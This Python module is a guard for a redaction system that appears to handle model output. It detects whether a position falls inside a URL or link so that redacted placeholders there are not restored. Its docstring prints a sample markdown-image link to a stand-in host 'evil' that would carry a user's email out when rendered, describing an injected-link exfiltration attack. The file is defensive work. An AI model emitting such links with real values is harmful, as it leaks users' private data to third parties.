"""Is a position inside a URL or link target? Restoring a placeholder there would let an
injected link (`![x](https://evil/?q=[REDACTED_EMAIL_1])`) carry the value to a third party the
moment a client renders it, so the guard leaves those placeholders alone (DESIGN §5).

URLs contain no whitespace, so looking back to the previous whitespace is enough; the stream
guard only ever cuts at whitespace, so that stretch is always in the same piece.
"""

from __future__ import annotations

from typing import Final

_MARKERS: Final = ("://", "](", "href=", "src=", "mailto:", "url(", "www.", "data:", "srcset=", "action=")
_LOOKBACK: Final = 4096


def in_url(text: str, pos: int) -> bool:
    start = pos
    limit = max(0, pos - _LOOKBACK)
    while start > limit and not text[start - 1].isspace():
        start -= 1
    prefix = text[start:pos].lower()
    return any(marker in prefix for marker in _MARKERS)
